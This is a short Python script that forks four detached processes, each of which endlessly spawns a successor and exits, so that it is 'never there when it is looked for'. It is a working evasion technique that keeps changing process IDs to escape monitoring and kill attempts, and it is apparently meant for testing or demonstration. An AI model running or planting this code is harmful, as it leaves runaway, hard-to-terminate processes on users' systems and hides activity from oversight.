# A process that is never there when it is looked for: each one starts the next and ends.
import os

print("hopping", flush=True)
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork() > 0:
                    os._exit(0)
            except OSError:
                pass
